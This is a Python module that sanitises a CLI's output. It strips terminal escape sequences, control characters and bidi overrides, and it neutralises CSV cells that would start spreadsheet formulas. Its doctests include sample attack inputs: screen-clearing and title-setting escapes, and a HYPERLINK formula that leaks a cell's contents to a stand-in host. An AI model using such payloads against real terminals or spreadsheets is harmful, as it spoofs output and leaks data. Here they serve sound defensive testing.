"""Output that cannot attack its reader: terminal-safe text, formula-safe CSV cells, TLP marks.

Labels, quotes and conditions come from data files that anyone may edit, so every text answer passes
through :func:`terminal_safe` (no escape sequence reaches the terminal: it cannot clear the screen,
rewrite a line of a "who to contact" answer or set the window title) and every CSV cell through
:func:`csv_cell` (no cell starts a spreadsheet formula, as OWASP advises for CSV injection).
"""

from __future__ import annotations

import io
import re

from graph.core.access import tlp_mark  # noqa: F401  (re-exported: the faces mark facts with it)

__all__ = ["terminal_safe", "csv_cell", "tlp_mark", "SafeTextStream"]

# ESC-introduced sequences (ECMA-48): CSI "ESC [ params final", OSC/DCS/SOS/PM/APC strings ended by BEL or
# ST ("ESC \"), and two-character escapes; plus their 8-bit C1 forms (CSI U+009B, OSC U+009D, DCS U+0090 ...).
_ESCAPES = re.compile(
    r"(?:\x1b\[|\x9b)[\x20-\x3f]*[\x40-\x7e]?"            # CSI ... final byte
    r"|(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f])"           # OSC, DCS, SOS, PM, APC ...
    r"[^\x07\x1b\x9c]*(?:\x07|\x1b\\|\x9c)?"              # ... up to BEL or ST (or the end)
    r"|\x1b[\x20-\x2f]*[\x30-\x7e]?")                     # any other escape (ESC c, ESC 7, ESC ( B ...)
# What is left: C0 controls, DEL, C1 controls, and the bidirectional overrides and isolates that reorder
# what a line appears to say (CVE-2021-42574, "Trojan Source").
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def terminal_safe(text: str, tabs: bool = True) -> str:
    """``text`` without escape sequences and control characters; newlines (and CR LF pairs) stay.

    Parameters
    ----------
    text : str
    tabs : bool
        Keep tab characters (the TSV separator); when False they become spaces.

    Examples
    --------
    >>> terminal_safe("ITM\\x1b[2J\\x1b]0;pwned\\x07 notifies\\x1b[1A\\rPolice\\nnext line")
    'ITM notifiesPolice\\nnext line'
    >>> terminal_safe("a\\tb\\r\\nc", tabs=False)
    'a b\\r\\nc'
    """
    if text.isprintable():  # the common case: nothing to remove (newlines and tabs are not printable)
        return text
    if "\r\n" in text:  # CR LF line ends (SPARQL CSV) stay; any other CR goes
        return "\r\n".join(terminal_safe(part, tabs) for part in text.split("\r\n"))
    text = _CONTROLS.sub("", _ESCAPES.sub("", text))
    return text if tabs else text.replace("\t", " ")


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value) -> str:
    """A CSV cell that a spreadsheet reads as text, never as a formula (OWASP CSV injection).

    A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading apostrophe;
    numbers (``-3``, ``+1.5e3``) are left as they are.

    Examples
    --------
    >>> csv_cell('=HYPERLINK("http://x?="&A1,"Click")'), csv_cell("@SUM(A1)"), csv_cell("-2.5"), csv_cell("ITM")
    ('\\'=HYPERLINK("http://x?="&A1,"Click")', "'@SUM(A1)", '-2.5', 'ITM')
    """
    text = "" if value is None else str(value)
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeTextStream(io.TextIOBase):
    """A text stream that passes everything written to it through :func:`terminal_safe`.

    The CLI wraps standard output and standard error in it, so no command, present or future, can
    print an escape sequence. ``buffer`` is the underlying binary stream (raw RDF exports use it).
    """

    def __init__(self, stream):
        self._stream = stream

    def write(self, text):
        if not isinstance(text, str):
            raise TypeError("write() argument must be str")  # so that click sees a text stream
        self._stream.write(terminal_safe(text))
        return len(text)

    def flush(self):
        self._stream.flush()

    def writable(self):
        return True

    def isatty(self):
        return self._stream.isatty()

    def fileno(self):
        return self._stream.fileno()

    @property
    def encoding(self):
        return getattr(self._stream, "encoding", "utf-8")

    @property
    def errors(self):
        return getattr(self._stream, "errors", "strict")

    @property
    def buffer(self):
        return self._stream.buffer

    def __getattr__(self, name):  # anything else (mode, name, ...) as the wrapped stream has it
        return getattr(self._stream, name)
